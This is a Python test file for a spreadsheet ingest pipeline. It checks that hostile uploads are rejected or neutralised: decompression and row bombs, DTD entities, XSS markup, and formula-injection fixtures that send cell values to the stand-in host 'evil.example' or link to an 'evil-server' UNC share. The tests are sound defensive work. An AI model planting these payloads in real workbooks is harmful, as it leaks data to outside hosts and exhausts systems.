"""Hostile and odd files through ``python -m etl ingest`` and the per-file pipeline: whatever a file holds
it ends with a status and a reason beside a good file that is loaded, memory stays under 1 GiB, what we
hand back carries no live content, the bytes hashed, archived and parsed are the same, and overlapping
runs process each file once."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path

import pytest
from hostile import (
    PAYLOADS,
    VOLUNTEER_HEADER,
    hotline_csv,
    hotline_ticket,
    html_span_bomb,
    inline,
    long_header_line_csv,
    ods_repeat_bomb,
    row_bomb_xlsx,
    shared_strings_bomb_xlsx,
    sparse_xlsx,
    volunteer_csv,
    xlsx_from_sheet_xml,
)
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import Workbook
from warehouse_helpers import query

from etl.ingest.pipeline import discover, prepare, process_file

GiB = 1 << 30
MiB = 1 << 20
STATUSES = {"accepted", "flagged", "rejected", "duplicate"}
MEASURE = (
    "import resource, subprocess, sys; r = subprocess.run(sys.argv[1:]); "
    "print('MAXRSS_KB', resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr); "
    "sys.exit(r.returncode)"
)


def ingest_cli(settings, extra_env: dict | None = None, prefix: list[str] | None = None) -> tuple[dict, int, str]:
    """``python -m etl ingest`` in a process of its own; its outcomes by file, the peak RSS of it and of
    its reader children (KiB), and its output."""
    env = {
        **os.environ,
        "SHARED_DIR": str(settings.shared_dir),
        "WAREHOUSE_URL": settings.warehouse_url,
        "FILE_SETTLE_SECONDS": "0",
        **(extra_env or {}),
    }
    run = subprocess.run(
        [sys.executable, "-c", MEASURE, *(prefix or []), sys.executable, "-m", "etl", "ingest"],
        env=env,
        capture_output=True,
        text=True,
        timeout=900,
    )
    assert run.returncode == 0, run.stderr[-3000:]
    peak = int(re.search(r"MAXRSS_KB (\d+)", run.stderr)[1])
    outcomes = {}
    for line in run.stdout.splitlines():
        match = re.match(r"^(accepted|flagged|rejected|duplicate)\s+(\S.*?)  (.*)$", line)
        if match:
            outcomes[match[2]] = (match[1], match[3])
    return outcomes, peak, run.stdout


def good_file(settings) -> str:
    volunteer_csv(settings.inbox / "南芬区" / "南芬区_志愿服务_2022-03.csv")
    return "南芬区/南芬区_志愿服务_2022-03.csv"


HOSTILE = {  # name → (builder, a word of the reason the clerk must read)
    "稀疏_XFD1048576.xlsx": (lambda p: sparse_xlsx(p, "XFD1048576"), "max_"),
    "炸弹_2GB无行号.xlsx": (lambda p: row_bomb_xlsx(p, 2 * GiB), "max_"),
    "共享字符串_2GB.xlsx": (lambda p: shared_strings_bomb_xlsx(p, 2 * GiB), "max_"),
    "两百万行.xlsx": (lambda p: row_bomb_xlsx(p, 90 * MiB, with_refs=True), "max_"),
    "重复单元格.ods": (lambda p: ods_repeat_bomb(p), ""),
    "合并单元格.xls": (lambda p: html_span_bomb(p, 10**6, 10**6), "max_cells"),
    "超长表头行.csv": (lambda p: long_header_line_csv(p, 50 * MiB), "max_field_bytes"),
}


def test_hostile_files_are_rejected_beside_a_good_one_and_memory_stays_under_1_gib(sqlite_settings):
    settings = sqlite_settings
    good = good_file(settings)
    for name, (build, _) in HOSTILE.items():
        build(settings.inbox / "南芬区" / name)
    assert max(p.stat().st_size for p in (settings.inbox / "南芬区").iterdir()) < 60 * MiB
    outcomes, peak_kib, output = ingest_cli(settings)
    assert outcomes[good][0] == "accepted", output
    for name, (_, reason) in HOSTILE.items():
        status, why = outcomes[f"南芬区/{name}"]
        assert status == "rejected" and reason in why, (name, why)
    assert peak_kib * 1024 < GiB, f"peak RSS {peak_kib / 1024:.0f} MiB"
    print(f"peak RSS of the ingest and its reader children: {peak_kib / 1024:.0f} MiB")


def test_a_million_warnings_are_counted_not_kept(sqlite_settings):
    """250,000 rows with four approximate values each: a million warnings, 1,000 listed per rule."""
    settings = sqlite_settings
    path = settings.inbox / "南芬区" / "南芬区_志愿服务_2022-03.csv"
    path.parent.mkdir(parents=True)
    with path.open("w", encoding="utf-8") as handle:
        handle.write("南芬区志愿服务活动统计表（2022年3月）\n" + ",".join(VOLUNTEER_HEADER) + "\n")
        for i in range(250_000):
            handle.write(f"2022-03-04,南芬区,南芬区文明办{i},南芬志愿{i}队,创城,30余,10余,南芬区\n")
    outcomes, peak_kib, output = ingest_cli(settings)
    status, why = outcomes["南芬区/南芬区_志愿服务_2022-03.csv"]
    assert status == "flagged" and "500000处提示" in why, why
    load = query(settings, "SELECT findings_warning, rows_loaded FROM stg_file_load")[0]
    assert load == {"findings_warning": 500_000, "rows_loaded": 250_000}
    listed = query(settings, "SELECT COUNT(*) AS n FROM stg_finding")[0]["n"]
    assert listed <= 2 * 1_001
    assert peak_kib * 1024 < GiB, f"peak RSS {peak_kib / 1024:.0f} MiB"


# --------------------------------------------------------------------- files that used to crash the run


def formula_workbook(path: Path, *, cached: bool, text_formulas: bool, extra_column: bool, na_values: list) -> Path:
    """A 志愿服务 workbook with formula cells (with or without cached values), formula-looking text, an
    extra column and NA-like values."""
    from etl.excel_safe import set_cell

    wb = Workbook()
    ws = wb.active
    header = VOLUNTEER_HEADER + (["备注"] if extra_column else [])
    ws.append(["南芬区志愿服务活动统计表（2022年3月）"])
    ws.append(header)
    for i in range(1, 6):
        row = ["2022-03-04", "南芬区", "南芬区文明办", f"南芬志愿{i}队", "创城", 30 + i, 10, "南芬区"]
        if extra_column:
            row.append(na_values[i % len(na_values)] if na_values else None)
        ws.append(row)
    ws["F7"] = "=SUM(F3:F6)"  # openpyxl writes formulas without cached values
    if text_formulas:
        set_cell(ws["C4"], '=HYPERLINK("http://evil.example/","x")')
    if na_values:
        ws["G5"] = na_values[0]
    path.parent.mkdir(parents=True, exist_ok=True)
    wb.save(path)
    if cached:  # write a cached value into the formula cell, as Excel would
        with zipfile.ZipFile(path) as source:
            members = {i.filename: source.read(i.filename) for i in source.infolist()}
        sheet = members["xl/worksheets/sheet1.xml"]
        members["xl/worksheets/sheet1.xml"] = sheet.replace(
            b"<f>SUM(F3:F6)</f><v></v>", b"<f>SUM(F3:F6)</f><v>134</v>"
        ).replace(b"<f>SUM(F3:F6)</f></c>", b"<f>SUM(F3:F6)</f><v>134</v></c>")
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
            for name, data in members.items():
                target.writestr(name, data)
    return path


@given(
    cached=st.booleans(),
    text_formulas=st.booleans(),
    extra_column=st.booleans(),
    na_values=st.lists(
        st.sampled_from(
            [
                "NA",
                "N/A",
                "#N/A",
                "null",
                "None",
                "-",
                "—",
                "",
                " ",
                "nan",
                "无",
                True,
                False,
                -1,
                10**20,
                1e308,
                float("nan"),
            ]
        ),
        max_size=3,
    ),
)
def test_formulas_text_formulas_extra_columns_and_na_values_end_with_a_status(
    make_settings, cached, text_formulas, extra_column, na_values
):
    settings = make_settings()
    prepare(settings)
    formula_workbook(
        settings.inbox / "南芬区" / "南芬区_志愿服务_2022-03.xlsx",
        cached=cached,
        text_formulas=text_formulas,
        extra_column=extra_column,
        na_values=na_values,
    )
    volunteer_csv(settings.inbox / "明山区" / "明山区_志愿服务_2022-03.csv", district="明山区")
    outcomes = {o.file: o for o in (process_file(k, settings) for k in discover(settings))}
    assert {o.status for o in outcomes.values()} <= STATUSES
    assert outcomes["明山区/明山区_志愿服务_2022-03.csv"].status == "accepted"
    assert all(o.receipt and o.reason_zh for o in outcomes.values())
    assert list(settings.inbox.rglob("*.*")) == []


@given(size=st.integers(min_value=128 * 1024 + 1, max_value=1 * MiB))
def test_a_csv_field_over_128_kb_is_the_files_rejection(make_settings, size):
    settings = make_settings()
    prepare(settings)
    good = good_file(settings)
    volunteer_csv(
        settings.inbox / "南芬区" / "南芬区_志愿服务_长字段.csv",
        extra=[["2022-03-05", "南芬区", "x" * size, "队", "创城", "1", "1", "南芬区"]],
    )
    outcomes = {o.file: o for o in (process_file(k, settings) for k in discover(settings))}
    assert outcomes[good].status == "accepted"
    bad = outcomes["南芬区/南芬区_志愿服务_长字段.csv"]
    assert bad.status == "rejected" and "max_field_bytes" in bad.reason_zh


def test_a_nul_byte_in_a_12345_row_quarantines_that_row(settings):
    prepare(settings)
    tickets = [hotline_ticket(i) for i in range(1, 8)]
    tickets[3][4] = "城市\x00管理"
    tickets[5][3] = "北地\x00街道"
    hotline_csv(settings.inbox / "明山区" / "明山区_12345热线工单_2021-09.csv", tickets)
    outcome = process_file(discover(settings)[0], settings)
    assert outcome.status == "flagged" and outcome.rows == 5, outcome
    quarantined = query(settings, "SELECT source_row FROM stg_quarantined_row ORDER BY source_row")
    assert [r["source_row"] for r in quarantined] == [6, 8]
    values = [r["value_text"] for r in query(settings, "SELECT value_text FROM stg_finding")]
    assert all("\x00" not in (v or "") for v in values)


def test_a_dtd_beside_a_formula_error_is_rejected_not_a_crash(sqlite_settings):
    settings = sqlite_settings
    prepare(settings)
    good = good_file(settings)
    header = "".join(inline(f"{chr(65 + i)}1", h) for i, h in enumerate(VOLUNTEER_HEADER))
    xml = (
        f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE worksheet [<!ENTITY x "y">]><worksheet '
        'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        f'<row r="1">{header}</row><row r="2"><c r="F2" t="e"><f>1/0</f><v>#REF!</v></c></row>'
        "</sheetData></worksheet>"
    ).encode()
    xlsx_from_sheet_xml(settings.inbox / "南芬区" / "南芬区_志愿服务_DTD.xlsx", xml)
    outcomes = {o.file: o for o in (process_file(k, settings) for k in discover(settings))}
    assert outcomes[good].status == "accepted"
    assert outcomes["南芬区/南芬区_志愿服务_DTD.xlsx"].status == "rejected"


NO_DAC = ["setpriv", "--bounding-set=-dac_override,-dac_read_search", "--inh-caps=-dac_override,-dac_read_search"]


@pytest.mark.skipif(shutil.which("setpriv") is None, reason="setpriv (util-linux) drops root's override of file modes")
def test_an_unreadable_file_is_rejected_and_the_others_go_on(sqlite_settings):
    """Run as root without CAP_DAC_OVERRIDE (as the CI user is root), a mode-000 file cannot be read."""
    settings = sqlite_settings
    good = good_file(settings)
    secret = volunteer_csv(settings.inbox / "南芬区" / "南芬区_志愿服务_无权限.csv")
    os.chmod(secret, 0o000)
    outcomes, _, output = ingest_cli(settings, prefix=NO_DAC if os.geteuid() == 0 else [])
    assert outcomes[good][0] == "accepted", output
    status, why = outcomes["南芬区/南芬区_志愿服务_无权限.csv"]
    assert status == "rejected" and "权限" in why


# ------------------------------------------------------------------------------ what we hand back is safe


def booby_trapped_workbook(path: Path, payloads: list[str], hyperlink: str | None, external_link: bool) -> Path:
    """A 志愿服务 workbook with live formulas that leak cell values, a hyperlink out, an external link to a
    UNC share and a defined name pointing there, and a value error (so its receipt copies it)."""
    from openpyxl.workbook.defined_name import DefinedName

    wb = Workbook()
    ws = wb.active
    ws.append(["南芬区志愿服务活动统计表（2022年3月）"])
    ws.append(VOLUNTEER_HEADER)
    for i in range(1, 4):
        ws.append(["2022-03-04", "南芬区", "南芬区文明办", f"南芬志愿{i}队", "创城", 30 + i, 10, "南芬区"])
    ws["F5"] = "三十"  # a value error: the receipt copies the workbook to point at F5
    ws["I3"] = '=HYPERLINK("http://evil.example/?leak="&B3,"点击")'
    ws["I4"] = '=WEBSERVICE("http://evil.example/"&C4)'
    ws["I5"] = "='\\\\evil-server\\share\\[leak.xlsx]Sheet1'!A1"
    for i, payload in enumerate(payloads):
        ws.cell(row=6 + i, column=10, value=payload)
    if hyperlink:
        ws["C3"].hyperlink = hyperlink
    wb.defined_names["外部"] = DefinedName("外部", attr_text="'\\\\evil-server\\share\\[leak.xlsx]Sheet1'!$A$1")
    path.parent.mkdir(parents=True, exist_ok=True)
    wb.save(path)
    if external_link:
        with zipfile.ZipFile(path, "a") as archive:
            archive.writestr(
                "xl/externalLinks/externalLink1.xml",
                '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                '<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                'relationships" r:id="rId1"/></externalLink>',
            )
            archive.writestr(
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                'relationships/externalLinkPath" Target="file:///\\\\evil-server\\share\\leak.xlsx" '
                'TargetMode="External"/></Relationships>',
            )
            archive.writestr(
                "xl/connections.xml",
                '<connections xmlns="http://schemas.openxmlformats.org/'
                'spreadsheetml/2006/main"><connection id="1" name="q" type="4"/></connections>',
            )
            archive.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")
    return path


def assert_inert(receipt: Path) -> None:
    """No formula, external link, external relationship, connection or macro in the workbook."""
    with zipfile.ZipFile(receipt) as archive:
        names = archive.namelist()
        assert not [n for n in names if "externalLink" in n or "connections" in n or "vbaProject" in n], names
        for name in names:
            data = archive.read(name)
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert b"<f>" not in data and b"<f " not in data, name
            if name.endswith(".rels"):
                assert b'TargetMode="External"' not in data, (name, data[:500])
            if name == "xl/workbook.xml":
                assert b"<definedName " not in data and b"evil-server" not in data


@given(
    payloads=st.lists(st.sampled_from([p for p in PAYLOADS if "\x00" not in p]), max_size=4),  # openpyxl refuses NUL
    hyperlink=st.sampled_from(
        [None, "http://evil.example/a", "file://///evil-server/share/x.xlsx", "\\\\evil-server\\share\\x.xlsx"]
    ),
    external_link=st.booleans(),
    suffix=st.sampled_from([".xlsx", ".xlsm"]),
)
def test_receipts_carry_values_not_formulas_links_connections_or_macros(
    make_settings, payloads, hyperlink, external_link, suffix
):
    settings = make_settings()
    prepare(settings)
    booby_trapped_workbook(
        settings.inbox / "南芬区" / f"南芬区_志愿服务_2022-03{suffix}", payloads, hyperlink, external_link
    )
    outcome = process_file(discover(settings)[0], settings)
    assert outcome.status == "rejected"
    receipt = settings.shared_dir / outcome.receipt
    assert_inert(receipt)
    from openpyxl import load_workbook

    copy = load_workbook(receipt)
    sheet = copy[copy.sheetnames[1]]
    assert "原公式" in sheet["I3"].comment.text and "HYPERLINK" in sheet["I3"].comment.text
    assert sheet["F5"].fill.fgColor.rgb.endswith("FFC7CE")  # the problem cell is still marked


MARKUP = st.builds(
    lambda tag, text: f'<{tag} data-clerk="{text}">',
    st.sampled_from(["img", "b", "svg", "a", "iframe"]),
    st.text(alphabet="<>&\"' =abc/", max_size=8),
)


@given(payloads=st.lists(st.sampled_from([p for p in PAYLOADS if "<" in p]) | MARKUP, min_size=1, max_size=4))
def test_clerk_values_are_escaped_on_data_docs_pages_and_the_stewards_page(make_settings, payloads):
    from starlette.testclient import TestClient

    from etl.web import stewards_page as submissions

    settings = make_settings()
    prepare(settings)
    rows = [
        [f"2022-03-0{i + 1}", "南芬区", payload, f"队{i}", payload, "30", "10", payload]
        for i, payload in enumerate(payloads)
    ]  # 活动类型 outside its list: a GX finding quoting the value
    volunteer_csv(settings.inbox / "南芬区" / "南芬区_志愿服务_2022-03.csv", rows=1, extra=rows)
    outcome = process_file(discover(settings)[0], settings)
    assert outcome.docs_page, outcome
    page = (settings.shared_dir / outcome.docs_page).read_text(encoding="utf-8")
    listing = TestClient(submissions.create_app()).get(f"/loads/{outcome.load_id}").text
    for payload in payloads:
        opening = payload.rsplit("=", 1)[0]  # "<img src=x onerror", '<b data-clerk': markup, were it not escaped
        assert opening not in page, payload  # never as markup, on the Data Docs page
        assert opening not in listing, payload  # nor on the stewards' page


# ------------------------------------------------------------------ the same bytes: hashed, archived, parsed


def test_a_file_that_grows_while_it_is_processed_is_parsed_as_archived(sqlite_settings):
    settings = sqlite_settings
    prepare(settings)
    path = hotline_csv(
        settings.inbox / "明山区" / "明山区_12345热线工单_2021-09.csv", [hotline_ticket(i) for i in range(1, 3001)]
    )
    stop = threading.Event()
    handle = path.open("a", encoding="utf-8")  # the clerk's copy tool, still appending through its descriptor

    def keep_writing():
        i = 3001
        while not stop.is_set():
            handle.write(",".join(hotline_ticket(i)) + "\n")
            handle.flush()
            i += 1
            time.sleep(0.0005)

    writer = threading.Thread(target=keep_writing)
    writer.start()
    try:
        outcome = process_file(discover(settings)[0], settings)
    finally:
        stop.set()
        writer.join()
        handle.close()
    row = query(settings, "SELECT sha256, archive_path, rows_loaded, rows_read FROM stg_file_load")[0]
    archived = (settings.shared_dir / row["archive_path"]).read_bytes()
    assert hashlib.sha256(archived).hexdigest() == row["sha256"]
    tickets_in_archive = sum(1 for line in archived.decode("utf-8").splitlines() if line.startswith("MS2021"))
    assert row["rows_read"] == tickets_in_archive == outcome.rows
    facts = query(settings, "SELECT COUNT(*) AS n FROM fct_hotline_ticket")[0]["n"]
    assert facts == tickets_in_archive


# ------------------------------------------------------------------------------------ overlapping runs


def test_two_overlapping_runs_process_every_file_once(settings):
    from demo import write_demo_files

    prepare(settings)
    files = write_demo_files(settings.shared_dir)
    env = {
        **os.environ,
        "SHARED_DIR": str(settings.shared_dir),
        "WAREHOUSE_URL": settings.warehouse_url,
        "FILE_SETTLE_SECONDS": "0",
    }
    runs = [
        subprocess.Popen(
            [sys.executable, "-m", "etl", "ingest"], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
        )
        for _ in range(2)
    ]
    results = [run.communicate(timeout=900) for run in runs]
    assert all(run.returncode == 0 for run in runs), [err[-2000:] for _, err in results]
    summaries = [json.loads(out.strip().splitlines()[-1].replace("'", '"')) for out, _ in results]
    assert sum(s["files"] for s in summaries) == len(files)
    assert all(s["files"] for s in summaries), summaries  # both runs took files: they overlapped
    loads = query(settings, "SELECT source_path, status, moved_to, receipt_path FROM stg_file_load")
    assert len(loads) == len(files) == len({r["source_path"] for r in loads})
    assert {r["status"] for r in loads} <= {"accepted", "flagged"}
    assert all(r["moved_to"] and r["receipt_path"] for r in loads)
    receipts = [p for p in settings.receipts.rglob("*.xlsx")]
    assert len(receipts) == len(files)
    assert list(settings.inbox.rglob("*.*")) == [] and list(settings.work.iterdir()) == []


def test_a_nul_escaped_in_workbook_xml_is_a_finding_on_its_cell(sqlite_settings):
    """XML cannot hold a NUL, but a workbook can escape one (_x0000_), which python-calamine decodes."""
    settings = sqlite_settings
    prepare(settings)
    header = "".join(inline(f"{chr(65 + i)}1", h) for i, h in enumerate(VOLUNTEER_HEADER))
    row = "".join(
        inline(f"{chr(65 + i)}2", v)
        for i, v in enumerate(
            ["2022-03-04", "南芬区", "南芬区文明办", "南芬志愿_x0000_队", "创城", "30", "10", "南芬区"]
        )
    )
    xml = (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
        f'spreadsheetml/2006/main"><sheetData><row r="1">{header}</row><row r="2">{row}</row></sheetData>'
        "</worksheet>"
    ).encode()
    xlsx_from_sheet_xml(settings.inbox / "南芬区" / "南芬区_志愿服务_2022-03.xlsx", xml)
    outcome = process_file(discover(settings)[0], settings)
    assert outcome.status == "rejected"
    findings = query(settings, "SELECT cell_ref, message_zh, value_text FROM stg_finding")
    assert [f["cell_ref"] for f in findings] == ["D2"] and "控制字符" in findings[0]["message_zh"]
    assert "\x00" not in findings[0]["value_text"]


@given(bad=st.integers(min_value=1, max_value=6))
@example(bad=6)
def test_a_12345_export_none_of_whose_rows_loads_is_rejected_not_current(make_settings, bad):
    """Rows with errors are quarantined and the rest loaded; when that leaves no row, the file is rejected
    (never flagged, never the current version of its month)."""
    settings = make_settings()
    prepare(settings)
    tickets = [hotline_ticket(i) for i in range(1, 7)]
    for ticket in tickets[:bad]:
        ticket[1] = "不是时间"
    hotline_csv(settings.inbox / "明山区" / "明山区_12345热线工单_2021-09.csv", tickets)
    outcome = process_file(discover(settings)[0], settings)
    load = query(settings, "SELECT status, is_current, rows_loaded FROM stg_file_load")[0]
    if bad == len(tickets):
        assert (outcome.status, load["is_current"], load["rows_loaded"]) == ("rejected", 0, 0)
    else:
        assert (outcome.status, load["is_current"], load["rows_loaded"]) == ("flagged", 1, len(tickets) - bad)
